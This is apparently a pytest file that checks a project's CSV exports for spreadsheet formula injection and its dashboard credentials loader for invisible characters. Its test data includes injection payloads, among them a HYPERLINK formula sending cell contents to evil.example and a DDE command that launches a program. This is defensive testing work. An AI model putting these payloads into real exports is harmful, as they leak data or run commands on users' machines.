"""Issue 19: exports that a spreadsheet would run, and credentials files with invisible characters."""

from __future__ import annotations

import csv
import io
import re

import polars as pl
import pytest

from wbcv.base.csvsafe import spreadsheet_original, spreadsheet_safe, spreadsheet_safe_csv
from wbcv.base.errors import WbcvError
from wbcv.dashboards.auth import load_credentials, parse_credentials

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "=",
    "'=already quoted",
    "''+two quotes",
]
HARMLESS = ["S00001", "010", "'plain quote", "", "a=b", " =leading space", "1.5", "μL", "''"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_like_values_get_one_quote_and_come_back(value):
    cell = spreadsheet_safe(value)
    assert cell == "'" + value
    assert spreadsheet_original(cell) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_values_are_written_unchanged(value):
    assert spreadsheet_safe(value) == value
    assert spreadsheet_original(value) == value


def test_the_mapping_is_one_to_one():
    values = FORMULAS + HARMLESS
    cells = [spreadsheet_safe(v) for v in values]
    assert len(set(cells)) == len(set(values))
    assert [spreadsheet_original(c) for c in cells] == values


def test_csv_export_neutralises_every_text_column_and_leaves_numbers():
    frame = pl.DataFrame(
        {
            "sample_id": ["=1+1", "S002", "@x", "-5", "\tTAB", None],
            "verdict": pl.Series(["+ok", "pass", "fail", "pass", "pass", "pass"], dtype=pl.Categorical),
            "bias": [-3.25, 1.0, -0.5, 2.0, 0.0, None],
            "n": [-1, 2, 3, 4, 5, 6],
        }
    )
    rows = list(csv.DictReader(io.StringIO(spreadsheet_safe_csv(frame))))
    assert [r["sample_id"] for r in rows] == ["'=1+1", "S002", "'@x", "'-5", "'\tTAB", ""]
    assert [r["verdict"] for r in rows][:2] == ["'+ok", "pass"]
    assert [r["bias"] for r in rows][:3] == ["-3.25", "1.0", "-0.5"]  # numbers stay numbers
    assert rows[0]["n"] == "-1"
    for r in rows:  # no cell a spreadsheet would run
        assert all(not v or v[0] not in "=+-@\t\r" for k, v in r.items() if k in ("sample_id", "verdict"))
    assert [spreadsheet_original(r["sample_id"]) for r in rows][:5] == ["=1+1", "S002", "@x", "-5", "\tTAB"]


def test_dashboard_download_uses_the_safe_writer():
    import inspect

    from wbcv.dashboards import app

    source = inspect.getsource(app)
    assert "spreadsheet_safe_csv(rows)" in source and ".write_csv()" not in source


def test_training_split_round_trips_formula_like_names(tmp_path):
    from wbcv.inference.training import SPLIT_FILE, read_split

    (tmp_path / SPLIT_FILE).write_text(
        "sha256,path,label,split\nabc,'=x/'-a.jpg,'=odd,train\nd,n/b.jpg,neutrophil,train\n"
    )
    cells = read_split(tmp_path, tmp_path / "lib", "train")
    assert [(c.path.relative_to(tmp_path / "lib").as_posix(), c.label) for c in cells] == [
        ("=x/'-a.jpg", "=odd"),
        ("n/b.jpg", "neutrophil"),
    ]


@pytest.mark.parametrize(
    "content",
    [
        b"\xef\xbb\xbfalice:s3cret\n",
        b"\xef\xbb\xbfalice:s3cret",
        b"\xef\xbb\xbf# who may look\nalice:s3cret\r\n",
        b"alice:s3cret\r\n",
    ],
)
def test_a_byte_order_mark_is_not_part_of_the_user_name(tmp_path, content):
    f = tmp_path / "auth"
    f.write_bytes(content)
    creds = load_credentials(f, environ={})
    assert creds is not None and (creds.user, creds.password) == ("alice", "s3cret")


@pytest.mark.parametrize(
    "content, line, code",
    [
        ("\ufeff\ufeffalice:pw\n", 1, "U+FEFF"),  # a second BOM is not a BOM any more
        ("al\u200bice:pw\n", 1, "U+200B"),  # zero-width space
        ("# comment\n\u202ealice:pw\n", 2, "U+202E"),  # right-to-left override
        ("\n\nal\x00ice:pw\n", 3, "U+0000"),
        ("al\x1bice:pw\n", 1, "U+001B"),
        ("ali\u2028ce:pw\n", 1, "U+2028"),
        ("alice\u2060:pw\n", 1, "U+2060"),  # word joiner
    ],
)
def test_user_names_with_invisible_characters_are_refused_naming_the_line(tmp_path, content, line, code):
    f = tmp_path / "auth"
    f.write_text(content, encoding="utf-8")
    with pytest.raises(
        WbcvError, match=rf"line {line}: the user name holds an invisible or control character {re.escape(code)}"
    ):
        load_credentials(f, environ={})


def test_environment_credentials_are_checked_too():
    with pytest.raises(WbcvError, match=r"WBCV_DASHBOARD_AUTH: the user name holds .* U\+FEFF"):
        parse_credentials("\ufeffbob:pw", "environment variable WBCV_DASHBOARD_AUTH")
    assert parse_credentials("bob:pw\u200b", "env").password == "pw\u200b"  # passwords are opaque


def test_an_auth_file_that_is_not_utf8_is_a_message(tmp_path):
    f = tmp_path / "auth"
    f.write_bytes(b"al\xffice:pw\n")
    with pytest.raises(WbcvError, match="not UTF-8"):
        load_credentials(f, environ={})
